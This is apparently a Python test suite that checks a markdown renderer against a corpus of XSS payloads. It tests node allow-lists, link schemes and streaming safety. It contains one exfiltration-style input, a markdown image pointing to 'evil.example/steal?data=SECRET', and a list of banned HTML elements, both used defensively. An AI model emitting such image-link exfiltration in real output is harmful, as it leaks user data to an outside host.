"""widget.text.markdown against the XSS corpus in tests/fixtures/xss/: model output is data."""

from tests.portable._support import list_fixtures, read_fixture
from widget.text.links import resolve_link
from widget.text.markdown import (
    ATTRS,
    LEAF_TYPES,
    NODE_TYPES,
    TEXT_TYPES,
    IncrementalMarkdown,
    parse,
    plain_text,
    walk,
)

BASE = "https://user.github.io/repo/docs/page"
ALIGNS = (None, "left", "center", "right")


def corpus():
    """[(file, name, payload, visible substrings or None)] from tests/fixtures/xss/*.txt."""
    out = []
    for fname in list_fixtures("xss", ".txt"):
        text = read_fixture("xss/" + fname).decode()
        for chunk in text.split("\n=== ")[1:]:
            name, _, body = chunk.partition("\n")
            payload, sep, visible = body.partition("\n--- visible\n")
            if not sep and body.endswith("\n--- visible"):
                payload, sep, visible = body[: -len("\n--- visible")], True, ""
            payload = payload.rstrip("\n")
            expect = [v for v in visible.split("\n") if v] if sep else None
            out.append((fname, name, payload, expect))
    return out


def squash(s):
    return " ".join(s.split())


def check_tree(doc, where):
    """The allow-list contract a DOM builder relies on."""
    assert doc.type == "document", where
    for n in walk(doc):
        t = n.type
        assert t in NODE_TYPES, (where, t)
        if t in ATTRS:
            assert sorted(n.attrs) == sorted(ATTRS[t]), (where, n)
        else:
            assert n.attrs is None, (where, n)
        if t in TEXT_TYPES:
            assert isinstance(n.text, str), (where, n)
        else:
            assert n.text is None, (where, n)
        if t in LEAF_TYPES:
            assert n.children is None, (where, n)
        else:
            assert isinstance(n.children, list), (where, n)
        a = n.attrs
        if t == "link":
            href = a["href"]
            assert href.startswith(("https://", "http://", "mailto:")), (where, href)
            r = resolve_link(href, BASE)
            assert r is not None and r.href == href, (where, href)
            assert r.scheme in ("http", "https", "mailto"), (where, href)
            assert isinstance(a["external"], bool) and isinstance(a["image"], bool)
            assert a["title"] is None or isinstance(a["title"], str)
        elif t == "heading":
            assert a["level"] in (1, 2, 3, 4, 5, 6)
        elif t == "code_block":
            assert isinstance(a["lang"], str) and " " not in a["lang"]
        elif t == "list":
            assert isinstance(a["ordered"], bool) and isinstance(a["tight"], bool)
            assert a["start"] is None or isinstance(a["start"], int)
        elif t == "list_item":
            assert a["task"] in (None, False, True)
        elif t == "table":
            assert all(x in ALIGNS for x in a["align"])
        elif t == "table_cell":
            assert a["align"] in ALIGNS


def test_corpus_is_large_and_well_formed():
    entries = corpus()
    assert len(entries) >= 150
    names = [(f, n) for f, n, _, _ in entries]
    assert len(set(names)) == len(names)
    for f, n, payload, _ in entries:
        assert payload.strip(), (f, n)


def test_every_payload_renders_as_allow_listed_nodes_with_safe_links():
    for fname, name, payload, _ in corpus():
        check_tree(parse(payload, base_url=BASE), (fname, name))
        check_tree(parse(payload, base_url=BASE, gfm=False), (fname, name, "gfm off"))


def test_every_payload_keeps_its_visible_text():
    for fname, name, payload, expect in corpus():
        seen = squash(plain_text(parse(payload, base_url=BASE)))
        wanted = [squash(payload)] if expect is None else [squash(e) for e in expect]
        for w in wanted:
            assert w in seen, (fname, name, w, seen)


def test_every_payload_is_safe_while_streaming_too():
    for fname, name, payload, _ in corpus():
        md = IncrementalMarkdown(base_url=BASE)
        for i in range(0, len(payload), 7):
            md.append(payload[i : i + 7])
            check_tree(Node_document(md.blocks()), (fname, name, i))
        assert md.finish() == parse(payload, base_url=BASE).children, (fname, name)


def Node_document(children):
    from widget.text.markdown import Node

    return Node("document", children)


def test_no_element_that_runs_code_or_loads_anything_can_appear():
    # The allow-list itself: nothing like script, iframe, object, img, style, form or a custom
    # element exists as a node type, and only links carry a URL.
    banned = ("script", "iframe", "object", "embed", "form", "style", "base", "meta", "svg")
    banned += ("math", "img", "image", "html", "html_block", "html_inline", "raw")
    assert not [t for t in NODE_TYPES if t in banned or "-" in t]
    assert [t for t in ATTRS if "href" in ATTRS[t]] == ["link"]
    for t in ATTRS:
        for key in ATTRS[t]:
            assert not key.startswith("on") and key not in ("style", "class", "id", "name", "src")


def test_images_are_links_and_never_image_nodes():
    doc = parse("![x](https://evil.example/steal?data=SECRET)", base_url=BASE)
    link = doc.children[0].children[0]
    assert link.type == "link" and link.get("image") is True and link.get("external") is True
    assert [n.type for n in walk(doc)] == ["document", "paragraph", "link", "text"]


def test_refused_links_leave_no_href_anywhere():
    for fname, name, payload, _ in corpus():
        if fname != "javascript-urls.txt":
            continue
        for n in walk(parse(payload, base_url=BASE)):
            if n.type == "link":
                assert "javascript" not in n.get("href").split("?")[0].lower(), (name, n)
